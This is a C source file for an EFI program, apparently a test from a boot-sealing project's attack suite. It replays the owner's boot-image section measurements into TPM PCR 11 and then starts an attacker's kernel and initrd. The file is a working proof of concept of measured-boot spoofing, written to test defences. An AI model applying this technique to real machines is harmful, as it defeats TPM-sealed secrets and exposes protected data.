/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attack 3: measures the sections of the owner's boot image into PCR 11 just as its stub would, then starts a kernel and an
 * initrd of the attacker's. \EFI\etcseal\etcseal.efi, \EFI\evil\vmlinuz, \EFI\evil\initrd.
 */
#include "tests-ovmf/attack/efi/common.h"

enum { PCR_IMAGE = 11, EV_IPL = 13, NAMES = 10 };

static UINT32 le32(const UINT8 *p)
{
	return (UINT32)p[3] << 24 | (UINT32)p[2] << 16 | (UINT32)p[1] << 8 | p[0];
}

static EFI_STATUS extend(struct tcg2 *tcg2, const void *data, UINTN len)
{
	struct tcg2_event event = {
		.size = sizeof event, .header_size = 14, .version = 1, .pcr = PCR_IMAGE, .type = EV_IPL
	};

	return tcg2->hash_log_extend_event(tcg2, 0, (EFI_PHYSICAL_ADDRESS)(UINTN)data, len, &event);
}

static EFI_STATUS replay(struct tcg2 *tcg2, const UINT8 *file)
{
	static const char names[NAMES][9] = { ".linux",  ".osrel", ".cmdline", ".initrd", ".ucode",
					      ".splash", ".dtb",   ".uname",   ".sbat",   ".pcrpkey" };
	const UINT8 *pe = file + le32(file + 0x3c);
	const UINT8 *table = pe + 24 + (pe[20] | pe[21] << 8);
	UINTN sections = pe[6] | pe[7] << 8;
	EFI_STATUS status = EFI_SUCCESS;

	for (UINTN n = 0; n < NAMES; n++)
		for (UINTN i = 0; i < sections && !EFI_ERROR(status); i++) {
			const UINT8 *s = table + 40 * i;

			if (strncmpa((CHAR8 *)s, (CHAR8 *)names[n], 8) != 0 || le32(s + 8) == 0)
				continue;
			status = extend(tcg2, names[n], strlena((CHAR8 *)names[n]) + 1);
			if (!EFI_ERROR(status))
				status = extend(tcg2, file + le32(s + 20), le32(s + 8));
		}
	return status;
}

EFI_STATUS efi_main(EFI_HANDLE self, EFI_SYSTEM_TABLE *system)
{
	EFI_STATUS status;
	struct tcg2 *tcg2;
	UINTN len;
	UINT8 *file;

	InitializeLib(self, system);
	tcg2 = find_tcg2();
	file = read_file(self, L"\\EFI\\etcseal\\etcseal.efi", &len);
	if (!tcg2 || !file)
		return EFI_NOT_FOUND;
	status = replay(tcg2, file);
	Print(L"@@ replayed=%r\n", status);
	return EFI_ERROR(status) ? status : start_own_system(self);
}
